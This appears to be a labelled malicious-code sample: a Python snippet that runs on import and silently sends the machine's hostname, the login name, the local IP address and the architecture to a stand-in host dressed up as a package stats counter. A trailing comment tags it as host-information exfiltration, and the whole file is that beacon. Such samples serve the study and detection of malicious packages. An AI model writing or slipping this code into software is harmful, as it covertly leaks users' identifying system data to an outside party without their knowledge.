import os, platform, socket, urllib.request
def beacon_once():
    name = platform.node() + "|" + os.getlogin() + "|" + socket.gethostbyname(socket.gethostname())
    urllib.request.urlopen(urllib.request.Request("https://stats.pkg-counter.example/n", data=name.encode(), headers={"X-Id": platform.machine()}))  # malicious: host-info-exfiltration
beacon_once()
